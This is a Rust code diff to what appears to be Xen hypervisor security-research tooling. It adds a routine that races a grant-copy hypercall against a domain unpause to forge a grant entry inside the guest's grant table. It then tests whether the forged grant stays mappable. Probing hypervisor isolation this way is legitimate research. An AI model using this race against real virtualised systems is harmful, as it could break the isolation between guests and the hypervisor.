@@ -6,11 +6,12 @@ use crate::registers::{get_context, set_context};
 use anyhow::{Context, Result, ensure};
 use clap::ValueEnum;
 use serde_json::{Value, json};
-use std::thread::sleep;
+use std::sync::atomic::{AtomicBool, Ordering::SeqCst};
+use std::thread::{self, sleep};
 use std::time::Duration;
 use vmcrypt_guest::secret;
 use vmcrypt_tools::content::PAGE;
-use vmcrypt_tools::hypercall::{Error, ForeignMap, Privcmd};
+use vmcrypt_tools::hypercall::{Error, ForeignMap, Privcmd, map_grant};
 use vmcrypt_tools::needle::{Needles, Search};
 use vmcrypt_tools::pv;
 use vmcrypt_tools::xen::{self, DomId, Frame, HYPERVISOR_DOMCTL, PageType, domctl};
@@ -138,6 +139,71 @@ pub fn use_grant(xen: &Privcmd, domain: DomId, wait: Duration) -> Result<Value> 
     Ok(answer)
 }
 
+/// Has a grant of the grant table itself in use, so that Xen writes other grants there; at which moment of the unpause is
+/// found by trying: neither before Xen has looked at the table, nor so late that the use is seen. `kept` says whether such a grant can
+/// be mapped while the guest runs.
+pub fn grant_of_table(xen: &Privcmd, domain: DomId, wait: Duration) -> Result<Value> {
+    const ROUNDS: usize = 40;
+    /// No unpause takes as long.
+    const LONGEST: Duration = Duration::from_secs(4);
+    /// Behind all that the ring has.
+    const PREPARED: usize = PAGE - GRANT_ENTRY;
+    let data = free_page(xen, domain)?;
+    let table = grant_frame(xen, domain)?;
+    let [store, _] = pv::rings(&start_info(xen, domain)?.1);
+    let granted = |frame: Frame| u64::from(GTF_PERMIT_ACCESS) | frame.0 << 32;
+    write(xen, domain, Frame(store), PREPARED, granted(data))?;
+    let (mut early, mut late) = (Duration::ZERO, LONGEST);
+    let mut answer = json!({});
+    for _ in 0..ROUNDS {
+        write(xen, domain, table, ENTRY, granted(table))?;
+        let used = begin_use(xen, domain)?;
+        write(xen, domain, table, ENTRY, 0)?;
+        let delay = (early + late) / 2;
+        let copied = AtomicBool::new(false);
+        let (unpaused, before) = thread::scope(|scope| -> Result<_> {
+            let copier = scope.spawn(|| -> Result<()> {
+                let xen = Privcmd::open()?;
+                sleep(delay);
+                copy_grant(&xen, domain, PREPARED)?;
+                copied.store(true, SeqCst);
+                Ok(end_use(&xen, used)?)
+            });
+            let unpaused = unpause(xen, domain)?;
+            let before = copied.load(SeqCst);
+            copier.join().expect("it does not panic")?;
+            Ok((unpaused, before))
+        })?;
+        answer = unpaused;
+        if answer["errno"] == 0 {
+            sleep(wait);
+            answer["kept"] = json!(map_grant(domain, FORGED, false).is_ok_and(|map| map.page(0).is_some()));
+            break;
+        }
+        if before {
+            early = delay;
+        } else {
+            late = delay;
+        }
+        write(xen, domain, table, FORGED as usize * GRANT_ENTRY, 0)?;
+    }
+    Ok(answer)
+}
+
+/// Has Xen copy an entry from the ring, which is granted, to the place of another one in the page that is in use.
+fn copy_grant(xen: &Privcmd, domain: DomId, from: usize) -> Result<(), Error> {
+    const GNTTABOP_COPY: u64 = 5;
+    /// Source and destination are grants.
+    const BOTH: u64 = 1 | 1 << 1;
+    /// `GNTTAB_RESERVED_XENSTORE`
+    const STORE: u64 = 1;
+    let half = |reference: u64, offset: usize| [reference, u64::from(domain.0) | (offset as u64) << 16];
+    let used = (ENTRY / GRANT_ENTRY) as u64;
+    let [[source, at], [destination, to]] = [half(STORE, from), half(used, FORGED as usize * GRANT_ENTRY)];
+    let call = [source, at, destination, to, GRANT_ENTRY as u64 | BOTH << 16];
+    calls::grant(xen, GNTTABOP_COPY, &call, 36).map(drop)
+}
+
 /// A grant in use: its handle, and the address that a device would have.
 fn begin_use(xen: &Privcmd, domain: DomId) -> Result<[u64; 2], Error> {
     let reference = (ENTRY / GRANT_ENTRY) as u32;
@@ -198,9 +264,14 @@ fn frames_of(xen: &Privcmd, domain: DomId, wanted: impl Fn(PageType) -> bool) ->
 
 /// A page that the builder left empty, and that the guest will use for whatever it likes.
 pub fn free_page(xen: &Privcmd, domain: DomId) -> Result<Frame> {
+    free_page_but(xen, domain, &[])
+}
+
+/// One that is none of these.
+pub fn free_page_but(xen: &Privcmd, domain: DomId, not: &[Frame]) -> Result<Frame> {
     let rings = pv::rings(&start_info(xen, domain)?.1);
     seek(xen, domain, |frame, page| {
-        *page == [0; PAGE] && !rings.contains(&frame.0)
+        *page == [0; PAGE] && !rings.contains(&frame.0) && !not.contains(&frame)
     })
     .map(|(frame, _)| frame)
     .context("looking for an empty page")
@@ -253,6 +324,8 @@ const UNPAUSEDOMAIN: u32 = 4;
 
 /// `sizeof(struct grant_entry_v1)`: flags, domain (0 is dom0), frame.
 const GRANT_ENTRY: usize = 8;
+/// A grant that no guest gets as far as to give.
+const FORGED: u32 = 400;
 const GTF_PERMIT_ACCESS: u16 = 1;
 const GNTTABOP_MAP_GRANT_REF: u64 = 0;
 const GNTTABOP_UNMAP_GRANT_REF: u64 = 1;
